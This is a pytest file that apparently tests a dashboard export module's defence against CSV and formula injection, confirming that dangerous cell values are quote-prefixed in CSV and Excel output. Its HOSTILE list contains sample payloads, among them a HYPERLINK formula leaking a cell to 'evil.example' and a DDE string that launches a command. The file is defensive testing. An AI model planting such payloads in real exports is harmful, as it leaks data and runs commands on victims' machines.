"""Exports opened in a spreadsheet cannot run formulas (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from recdash.exports import neutralise, table_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "Sale")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
SAFE = ["Blue mug", "1 + 1 = 2", "e-mail @ home", "", None]


def _frame() -> pd.DataFrame:
    titles = HOSTILE + SAFE
    return pd.DataFrame({"user_id": [f"u{k}" for k in range(len(titles))],
                         "title": pd.array(titles, dtype="string"),
                         "score": [-1.5] * len(titles), "rank": range(1, len(titles) + 1)})


def test_text_that_would_run_as_a_formula_is_prefixed_and_the_rest_is_kept():
    out = neutralise(_frame())
    assert out["title"].tolist()[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert out["title"].tolist()[len(HOSTILE):-1] == SAFE[:-1] and pd.isna(out["title"].iloc[-1])
    assert (out["score"] == -1.5).all() and out["score"].dtype == "float64"  # numbers untouched


def test_a_csv_export_has_no_cell_a_spreadsheet_would_run():
    rows = list(csv.reader(io.StringIO(table_bytes(_frame(), "csv").decode("utf-8"),
                                       newline="")))
    titles = [r[1] for r in rows[1:]]
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
    assert titles[0] == "'" + HOSTILE[0]
    assert [r[2] for r in rows[1:]] == ["-1.5"] * len(titles)  # a negative number stays one


def test_an_excel_export_holds_text_not_formulas():
    data = table_bytes(_frame(), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula cell at all
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert sheet["B2"].value == "'" + HOSTILE[0]


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="choose one of csv, parquet, xlsx"):
        table_bytes(_frame(), "xls")
